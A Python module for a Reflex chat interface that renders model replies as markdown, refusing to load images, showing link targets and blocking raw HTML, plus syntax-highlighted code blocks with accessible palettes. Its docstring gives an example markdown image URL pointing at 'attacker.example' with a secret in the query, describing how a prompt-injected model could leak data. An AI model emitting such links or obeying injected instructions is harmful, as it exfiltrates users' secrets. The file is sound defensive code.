"""Reply text as markdown that cannot reach out of the page on its own.

A reply is model-written, and a prompt-injected model could put data into an image URL
(`![x](https://attacker.example/?q=<secret>)`): rendering it would send that request the
moment the reply shows. So images are never loaded: an image renders as its description
and its address, as text. Links stay clickable and show where they go, so a reader sees
the target before following it. Raw HTML is never rendered (`use_raw=False`), and
react-markdown drops unsafe URL schemes such as `javascript:`.

A fenced code block is highlighted by react-syntax-highlighter (Reflex's `rx.code_block`),
in a palette made for contrast in each colour theme, under a line naming its language
with a button that copies the code (`components/copy.py`). The language is the model's
word after the fence: shown as text, and only ever picks one of the highlighter's own
grammars.
"""

from __future__ import annotations

import reflex as rx
from reflex.utils.imports import ImportVar
from reflex.vars.base import Var, VarData

from intent_ui.ui.components.copy import COPY_CODE_LABEL, copy_button

_SRC: Var[str] = Var(_js_expr="props.src", _var_type=str)
_ALT: Var[str] = Var(_js_expr="(props.alt || '')", _var_type=str)
_HREF: Var[str] = Var(_js_expr="props.href", _var_type=str)
# An autolink's text is its address already; showing it twice would be noise.
_SHOWS_ITS_TARGET: Var[bool] = Var(
    _js_expr="(String(children) === String(props.href))", _var_type=bool
)


def _image(*_children: object, **_props: object) -> rx.Component:
    return rx.el.span(
        rx.icon("image-off", size=13, custom_attrs={"aria-hidden": "true"}),
        rx.el.span(_ALT, class_name="iu-md-image-alt"),
        rx.el.span(_SRC, class_name="iu-md-target"),
        class_name="iu-md-image",
        title="Images in replies are not loaded",
        custom_attrs={"data-testid": "reply-image"},
    )


def _link(*children: object, **_props: object) -> rx.Component:
    return rx.el.span(
        rx.el.a(*children, href=_HREF, target="_blank", rel="noopener noreferrer nofollow"),
        rx.cond(_SHOWS_ITS_TARGET, rx.fragment(), rx.el.span(_HREF, class_name="iu-md-target")),
        class_name="iu-md-link",
    )


# The highlighter's accessible palettes: every token keeps at least 4.5:1 against the
# block's background, in the light theme and in the dark one.
_LIGHT_CODE: Var = Var(
    "a11yOneLight",  # not among `rx.code_block.themes`; imported as they are
    _var_data=VarData(
        imports={
            "react-syntax-highlighter/dist/esm/styles/prism/a11y-one-light": [
                ImportVar(tag="a11yOneLight", is_default=True, install=False)
            ]
        }
    ),
)
_DARK_CODE = rx.code_block.themes.a11y_dark
_CODE_STYLE = {"margin": "0", "borderRadius": "0 0 8px 8px", "fontSize": "0.85em"}


_NO_LANGUAGE: Var[str] = Var(_js_expr='""', _var_type=str)


def _code_block(
    code: Var[str], language: Var[str] = _NO_LANGUAGE, **_props: object
) -> rx.Component:
    return rx.el.div(
        rx.el.div(
            rx.el.span(language, class_name="iu-code-lang"),
            copy_button("copy-code", COPY_CODE_LABEL),
            class_name="iu-code-head",
        ),
        rx.code_block(
            code,
            language=language,
            theme=rx.color_mode_cond(light=_LIGHT_CODE, dark=_DARK_CODE),
            wrap_long_lines=True,
            custom_style=_CODE_STYLE,
        ),
        class_name="iu-code",
    )


def _inline_code(*children: object, **_props: object) -> rx.Component:
    # Plain `<code>` in the page's own colours: Radix's accent tint measures 4.1:1.
    return rx.el.code(*children, class_name="iu-md-code")


COMPONENT_MAP = {"img": _image, "a": _link, "pre": _code_block, "code": _inline_code}


def reply_markdown(text: rx.Var | str) -> rx.Component:
    """Markdown for a reply's text (see the module docstring)."""
    return rx.markdown(text, use_raw=False, component_map=COMPONENT_MAP, class_name="iu-md")
